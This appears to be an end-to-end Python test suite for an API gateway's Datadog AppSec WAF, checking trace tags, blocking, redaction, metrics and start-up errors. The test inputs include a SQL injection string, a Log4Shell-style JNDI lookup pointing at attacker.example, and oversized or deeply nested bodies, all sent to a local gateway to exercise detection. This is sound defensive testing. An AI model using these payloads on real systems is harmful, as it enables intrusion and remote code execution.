#!/usr/bin/python3
"""AppSec (DD_APPSEC_ENABLED) end to end: the real gateway with the WAF on, the echo backend, a fake
Datadog agent receiving the traces. Checks what Datadog's tracers report (span tags, _dd.appsec.json,
USER_KEEP with _dd.p.dm -5), that blocking answers before any backend, the block pages and actions,
the event log line, the Prometheus counters, hostile requests, and start-up refusals.

Usage: /usr/bin/python3 tests/e2e/telemetry/test_appsec.py [GATEWAY_BIN]
"""
import json
import os
import random
import subprocess
import sys
import threading
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import telemetry_e2e as t  # noqa: E402

WAIT = 15
DEFAULT_JSON = (b'{"errors":[{"title":"You\'ve been blocked","detail":"Sorry, you cannot access this page. '
                b'Please contact the customer service team. Security provided by Datadog."}]}')


def rule(rid, conditions, rtype="attack", on_match=None, transformers=None):
    r = {"id": rid, "name": f"rule {rid}", "tags": {"type": rtype, "category": "attack_attempt"},
         "conditions": conditions}
    if on_match:
        r["on_match"] = on_match
    if transformers is not None:
        r["transformers"] = transformers
    return r


def regex(address, pattern, key_path=None, **options):
    inp = {"address": address}
    if key_path:
        inp["key_path"] = key_path
    params = {"inputs": [inp], "regex": pattern}
    if options:
        params["options"] = options
    return {"operator": "match_regex", "parameters": params}


RULES = {
    "version": "2.2",
    "metadata": {"rules_version": "7.7.7"},
    "actions": [
        {"id": "teapot", "type": "block_request", "parameters": {"status_code": 418, "type": "html"}},
        {"id": "away", "type": "redirect_request", "parameters": {"status_code": 302, "location": "/blocked-page"}},
    ],
    "rules_data": [{"id": "blocked_ips", "type": "ip_with_expiration",
                    "data": [{"value": "198.51.100.7", "expiration": 0}]}],
    "rules": [
        rule("t-sqli", [{"operator": "is_sqli", "parameters": {"inputs": [{"address": "server.request.query"},
                                                                         {"address": "server.request.body"}]}}],
             rtype="sql_injection"),
        rule("t-ua", [{"operator": "phrase_match", "parameters": {
            "inputs": [{"address": "server.request.headers.no_cookies", "key_path": ["user-agent"]}],
            "list": ["evil-scanner"]}}], rtype="security_scanner", on_match=["block"], transformers=["lowercase"]),
        rule("t-teapot", [regex("server.request.query", "brew-attack")], on_match=["teapot"]),
        rule("t-away", [regex("server.request.query", "go-away")], on_match=["away"]),
        rule("t-ip", [{"operator": "ip_match", "parameters": {"inputs": [{"address": "http.client_ip"}],
                                                              "data": "blocked_ips"}}],
             rtype="ip_blocking", on_match=["block"]),
        rule("t-body", [regex("server.request.body", "nested-attack")], rtype="body_attack"),
        rule("t-env", [regex("server.response.status", "^404$"), regex("server.request.uri.raw", r"\.env$")],
             rtype="security_scanner"),
        rule("t-secret", [regex("server.request.query", "leak")], rtype="probe"),
        rule("t-broken", [{"operator": "lfi_detector@v2", "parameters": {"inputs": [{"address": "server.io.fs.file"}]}}]),
    ],
}


class AppSec(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = t.TempDir("gw-appsec-")
        cls.procs = []
        cls.agent = t.FakeAgent()
        try:
            backend, bport = t.start_backend(cls.tmp)
            cls.procs.append(backend)
            cls.metrics_port = t.free_port()
            config = {
                "version": 3, "timeout": "3s", "host": [f"http://127.0.0.1:{bport}"],
                "extra_config": {
                    "telemetry/opentelemetry": {"exporters": {"prometheus": [{"name": "p", "port": cls.metrics_port}]}},
                    "telemetry/logging": {"level": "INFO", "stdout": True},
                },
                "endpoints": [
                    {"endpoint": "/e/{id}", "backend": [{"url_pattern": "/echo/{id}"}]},
                    {"endpoint": "/post", "method": "POST", "backend": [{"url_pattern": "/echo/post"}]},
                    {"endpoint": "/noop", "method": "POST", "output_encoding": "no-op",
                     "backend": [{"url_pattern": "/echo/noop", "encoding": "no-op"}]},
                ],
            }
            cls.rules_path = cls.tmp.file("rules.json", json.dumps(RULES))
            cls.template_path = cls.tmp.file("blocked.html", "<p>custom block page</p>")
            env = t.gateway_env(DD_TRACE_ENABLED="true", DD_TRACE_AGENT_URL=f"http://127.0.0.1:{cls.agent.port}",
                                DD_SERVICE="gw-appsec", DD_LOGS_INJECTION="true", DD_APPSEC_ENABLED="true",
                                DD_APPSEC_RULES=cls.rules_path, DD_APPSEC_HTTP_BLOCKED_TEMPLATE_HTML=cls.template_path)
            cls.gw, cls.port = t.start_gateway(cls.tmp, config, env, wait_ports=(cls.metrics_port,))
            cls.procs.append(cls.gw)
        except Exception:
            cls.tearDownClass()
            raise

    @classmethod
    def tearDownClass(cls):
        for p in reversed(getattr(cls, "procs", [])):
            p.stop()
        cls.agent.close()
        cls.tmp.cleanup()

    # -- helpers ---------------------------------------------------------------------------------------

    def traced(self, path, method="GET", headers=None, body=None):
        """Sends with a fresh Datadog trace id; returns (status, headers, body, trace id)."""
        tid = random.randrange(1, 2**63)
        h = {"x-datadog-trace-id": str(tid), "x-datadog-parent-id": "7"}
        h.update(headers or {})
        c = t.http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        try:
            c.request(method, path, body=body, headers=h)
            r = c.getresponse()
            return r.status, r.headers, r.read(), tid
        finally:
            c.close()

    def root(self, tid, spans_expected=None):
        def got():
            spans = [s for s in self.agent.spans() if s.get("trace_id") == tid]
            roots = [s for s in spans if s.get("type") == "web"]
            if not roots or (spans_expected and len(spans) < spans_expected):
                return None
            return roots[0], spans
        return t.wait_until(got, WAIT, interval=0.1, what=f"the root span of trace {tid}")

    def triggers(self, root):
        self.assertEqual(root["meta"].get("appsec.event"), "true", root)
        return json.loads(root["meta"]["_dd.appsec.json"])["triggers"]

    def metrics_text(self):
        return t.request(self.metrics_port, "/metrics")[2].decode()

    # -- tests -----------------------------------------------------------------------------------------

    def test_benign_request_carries_appsec_tags_and_no_event(self):
        st, _, _, tid = self.traced("/e/ok?q=blue+shoes")
        self.assertEqual(st, 200)
        root, spans = self.root(tid, 3)
        self.assertEqual(root["metrics"].get("_dd.appsec.enabled"), 1)
        self.assertEqual(root["meta"].get("_dd.runtime_family"), "cpp")
        self.assertEqual(root["meta"].get("_dd.appsec.event_rules.version"), "7.7.7")
        self.assertIn("_dd.appsec.waf.version", root["meta"])
        self.assertIn("_dd.appsec.waf.duration", root["metrics"])
        self.assertNotIn("appsec.event", root["meta"])
        self.assertNotIn("_dd.appsec.json", root["meta"])
        self.assertNotEqual(root["metrics"].get("_sampling_priority_v1"), 2)

    def test_attack_is_reported_like_datadog_tracers_and_trace_kept(self):
        q = urllib.parse.quote("1' OR '1'='1")
        st, _, body, tid = self.traced(f"/e/m?q={q}", headers={"X-Forwarded-For": "203.0.113.50, 10.0.0.1",
                                                               "User-Agent": "curl/8.0"})
        self.assertEqual(st, 200, body)  # monitoring only: the backend answered
        self.assertEqual(json.loads(body)["path"], "/echo/m")
        root, spans = self.root(tid, 3)
        trig = self.triggers(root)
        self.assertEqual(trig[0]["rule"]["id"], "t-sqli")
        self.assertEqual(trig[0]["rule"]["tags"], {"type": "sql_injection", "category": "attack_attempt"})
        match = trig[0]["rule_matches"][0]
        self.assertEqual(match["operator"], "is_sqli")
        param = match["parameters"][0]
        self.assertEqual(param["address"], "server.request.query")
        self.assertEqual(param["key_path"], ["q"])
        self.assertEqual(param["value"], "1' OR '1'='1")
        self.assertEqual(len(param["highlight"]), 1)
        self.assertEqual(root["metrics"].get("_sampling_priority_v1"), 2)
        self.assertEqual(root["meta"].get("_dd.p.dm"), "-5")
        self.assertEqual(root["meta"].get("_dd.origin"), "appsec")
        self.assertEqual(root["meta"].get("http.client_ip"), "203.0.113.50")
        self.assertEqual(root["meta"].get("actor.ip"), "203.0.113.50")
        self.assertEqual(root["meta"].get("http.request.headers.user-agent"), "curl/8.0")
        self.assertEqual(root["meta"].get("http.request.headers.x-forwarded-for"), "203.0.113.50, 10.0.0.1")
        self.assertNotIn("appsec.blocked", root["meta"])
        # One log line per event, correlated with the trace.
        def line():
            for rec in t.json_lines(self.gw.stdout_bytes()):
                if rec.get("appsec.rules") == "t-sqli" and rec.get("dd.trace_id") == str(tid):
                    return rec
            return None
        rec = t.wait_until(line, WAIT, interval=0.1, what="the appsec event log line")
        self.assertEqual(rec.get("http.client_ip"), "203.0.113.50")
        self.assertIs(rec.get("appsec.blocked"), False)

    def test_blocking_answers_before_any_backend(self):
        st, headers, body, tid = self.traced("/e/blocked", headers={"User-Agent": "Evil-Scanner/2.0"})
        self.assertEqual(st, 403)
        self.assertEqual(body, DEFAULT_JSON)
        self.assertEqual(headers.get("Content-Type"), "application/json")
        root, spans = self.root(tid)
        self.assertEqual(len(spans), 1, f"a blocked request makes no backend call: {spans}")
        self.assertEqual(root["meta"].get("appsec.blocked"), "true")
        self.assertEqual(self.triggers(root)[0]["rule"]["on_match"], ["block"])
        self.assertEqual(root["meta"].get("http.status_code"), "403")

    def test_block_page_follows_accept_and_template_override(self):
        st, headers, body, _ = self.traced("/e/x", headers={"User-Agent": "evil-scanner",
                                                            "Accept": "text/html,application/xhtml+xml"})
        self.assertEqual(st, 403)
        self.assertEqual(headers.get("Content-Type"), "text/html;charset=utf-8")
        self.assertEqual(body, b"<p>custom block page</p>")  # DD_APPSEC_HTTP_BLOCKED_TEMPLATE_HTML
        st, headers, body, _ = self.traced("/e/x", headers={"User-Agent": "evil-scanner",
                                                            "Accept": "application/json;q=0.9,text/html;q=0.1"})
        self.assertEqual(body, DEFAULT_JSON)

    def test_custom_block_and_redirect_actions(self):
        st, headers, body, _ = self.traced("/e/x?c=brew-attack")
        self.assertEqual(st, 418)
        self.assertEqual(headers.get("Content-Type"), "text/html;charset=utf-8")
        st, headers, body, _ = self.traced("/e/x?c=go-away")
        self.assertEqual(st, 302)
        self.assertEqual(headers.get("Location"), "/blocked-page")
        self.assertEqual(body, b"")

    def test_blocked_ip_from_rules_data(self):
        st, _, body, _ = self.traced("/e/ip", headers={"X-Forwarded-For": "198.51.100.7"})
        self.assertEqual(st, 403)
        st, _, body, _ = self.traced("/e/ip", headers={"X-Forwarded-For": "198.51.100.8"})
        self.assertEqual(st, 200)

    def test_bodies_are_parsed_and_inspected(self):
        doc = json.dumps({"a": {"b": ["fine", "nested-attack"]}})
        st, _, body, tid = self.traced("/post", method="POST", body=doc, headers={"Content-Type": "application/json"})
        self.assertEqual(st, 200)
        param = self.triggers(self.root(tid)[0])[0]["rule_matches"][0]["parameters"][0]
        self.assertEqual(param["address"], "server.request.body")
        self.assertEqual(param["key_path"], ["a", "b", 1])
        # A no-op endpoint reads a JSON body whole to inspect it, and still relays it.
        st, _, body, tid = self.traced("/noop", method="POST", body=doc, headers={"Content-Type": "application/json"})
        self.assertEqual(st, 200)
        self.assertEqual(json.loads(json.loads(body)["body"]), json.loads(doc))
        self.assertEqual(self.triggers(self.root(tid)[0])[0]["rule"]["id"], "t-body")
        multipart = ("--b0undary\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"n.txt\"\r\n\r\n"
                     "notes: nested-attack\r\n--b0undary--\r\n")
        st, _, body, tid = self.traced("/noop", method="POST", body=multipart,
                                       headers={"Content-Type": "multipart/form-data; boundary=b0undary"})
        self.assertEqual(st, 200)
        self.assertEqual(json.loads(body)["body"], multipart)  # still relayed whole
        param = self.triggers(self.root(tid)[0])[0]["rule_matches"][0]["parameters"][0]
        self.assertEqual(param["key_path"], ["upload"])
        form = "x=1&y=nested-attack"
        st, _, body, tid = self.traced("/post", method="POST", body=form,
                                       headers={"Content-Type": "application/x-www-form-urlencoded"})
        self.assertEqual(self.triggers(self.root(tid)[0])[0]["rule_matches"][0]["parameters"][0]["key_path"], ["y"])

    def test_response_status_rules_and_unrouted_requests(self):
        st, _, _, tid = self.traced("/.env")
        self.assertEqual(st, 404)
        trig = self.triggers(self.root(tid)[0])
        self.assertEqual(trig[0]["rule"]["id"], "t-env")
        params = {m["parameters"][0]["address"]: m["parameters"][0]["value"] for m in trig[0]["rule_matches"]}
        self.assertEqual(params, {"server.response.status": "404", "server.request.uri.raw": "/.env"})

    def test_sensitive_values_are_redacted(self):
        st, _, _, tid = self.traced("/e/r?password=leak")
        param = self.triggers(self.root(tid)[0])[0]["rule_matches"][0]["parameters"][0]
        self.assertEqual(param["value"], "<Redacted>")
        self.assertEqual(param["highlight"], ["<Redacted>"])

    def test_ruleset_errors_and_counters(self):
        # The first span of each worker carries the load report; look through all spans seen so far.
        self.traced("/e/warmup")
        def loaded():
            for s in self.agent.spans():
                if "_dd.appsec.event_rules.loaded" in s.get("metrics", {}):
                    return s
            return None
        s = t.wait_until(loaded, WAIT, interval=0.1, what="a span with the ruleset load report")
        self.assertEqual(s["metrics"]["_dd.appsec.event_rules.loaded"], 8)
        self.assertEqual(s["metrics"]["_dd.appsec.event_rules.error_count"], 1)
        self.assertEqual(json.loads(s["meta"]["_dd.appsec.event_rules.errors"]),
                         {"unknown operator: 'lfi_detector@v2'": ["t-broken"]})
        self.traced("/e/c", headers={"User-Agent": "evil-scanner"})
        text = self.metrics_text()
        values = {}
        for line in text.splitlines():
            if line.startswith("api_gateway_appsec_"):
                name, value = line.rsplit(" ", 1)
                values[name] = float(value)
        self.assertGreaterEqual(values.get("api_gateway_appsec_requests_inspected_total", 0), 1, text)
        self.assertGreaterEqual(values.get("api_gateway_appsec_requests_blocked_total", 0), 1, text)
        self.assertGreaterEqual(values.get('api_gateway_appsec_events_total{type="security_scanner"}', 0), 1, text)
        self.assertIn("# TYPE api_gateway_appsec_events_total counter", text)

    def test_hostile_requests_are_bounded_and_others_still_served(self):
        many = "&".join(f"k{i}=v{i}" for i in range(10000))  # as a form body: a URL this long gets 414
        deep = "[" * 100000
        big = json.dumps({"pad": "x" * (2 << 20), "tail": "nested-attack"})
        results = {}

        def hostile():
            results["many"] = self.traced("/post", method="POST", body=many + "&z=nested-attack",
                                          headers={"Content-Type": "application/x-www-form-urlencoded"})[0]
            results["deep"] = self.traced("/post", method="POST", body=deep,
                                          headers={"Content-Type": "application/json"})[0]
            results["big"] = self.traced("/post", method="POST", body=big,
                                         headers={"Content-Type": "application/json"})[0]
        th = threading.Thread(target=hostile)
        th.start()
        for _ in range(20):
            self.assertEqual(self.traced("/e/meanwhile")[0], 200)
        th.join(30)
        self.assertFalse(th.is_alive())
        self.assertEqual(results["many"], 200)
        self.assertEqual(results["deep"], 200)  # the echo backend answers; the WAF inspected it as text
        self.assertEqual(results["big"], 200)


class AppSecStartup(unittest.TestCase):
    """Rules and templates that cannot be used refuse to start, naming the file; AppSec off adds nothing."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = t.TempDir("gw-appsec-start-")
        cls.config = cls.tmp.file("gw.json", json.dumps({"version": 3, "endpoints": []}))

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def refused(self, **env):
        p = subprocess.run([t.GATEWAY_BIN, "run", "-c", self.config, "-p", str(t.free_port())],
                           env=t.gateway_env(DD_APPSEC_ENABLED="true", **env), capture_output=True, timeout=20)
        self.assertNotEqual(p.returncode, 0, p.stdout + p.stderr)
        return p.stderr.decode()

    def test_malformed_rules_file(self):
        bad = self.tmp.file("bad.json", '{\n  "version": "2.2",\n  "rules": [ {"id": "x",}\n  ]\n}')
        err = self.refused(DD_APPSEC_RULES=bad)
        self.assertIn(bad, err)
        self.assertIn("line 3", err)

    def test_rules_that_are_not_a_ruleset(self):
        bad = self.tmp.file("notrules.json", '{"version": "2.2", "rules": {"id": 1}}')
        err = self.refused(DD_APPSEC_RULES=bad)
        self.assertIn("field 'rules'", err)

    def test_missing_files(self):
        self.assertIn("/nonexistent/rules.json", self.refused(DD_APPSEC_RULES="/nonexistent/rules.json"))
        self.assertIn("DD_APPSEC_HTTP_BLOCKED_TEMPLATE_JSON",
                      self.refused(DD_APPSEC_HTTP_BLOCKED_TEMPLATE_JSON="/nonexistent/block.json"))

    def test_builtin_ruleset_detects_without_configuration(self):
        tmp = self.tmp
        backend, bport = t.start_backend(tmp)
        agent = t.FakeAgent()
        procs = [backend]
        try:
            config = {"version": 3, "host": [f"http://127.0.0.1:{bport}"],
                      "endpoints": [{"endpoint": "/e/{id}", "backend": [{"url_pattern": "/echo/{id}"}]}]}
            for enabled in ("true", "false"):
                env = t.gateway_env(DD_TRACE_ENABLED="true", DD_TRACE_AGENT_URL=f"http://127.0.0.1:{agent.port}",
                                    DD_APPSEC_ENABLED=enabled)
                gw, port = t.start_gateway(tmp, config, env, name=f"gw-{enabled}")
                procs.append(gw)
                tid = random.randrange(1, 2**63)
                q = urllib.parse.quote("${jndi:ldap://attacker.example/a}")
                st, _, _ = t.request(port, f"/e/x?q={q}", headers={"x-datadog-trace-id": str(tid),
                                                                   "x-datadog-parent-id": "9"})
                self.assertEqual(st, 200)
                root = t.wait_until(lambda: next((s for s in agent.spans() if s.get("trace_id") == tid
                                                  and s.get("type") == "web"), None), WAIT, what="root span")
                if enabled == "true":
                    self.assertEqual(root["meta"].get("appsec.event"), "true", root)
                else:
                    self.assertFalse([k for k in list(root["meta"]) + list(root["metrics"]) if "appsec" in k], root)
                gw.stop()
        finally:
            for p in reversed(procs):
                p.stop()
            agent.close()


if __name__ == "__main__":
    t.main()
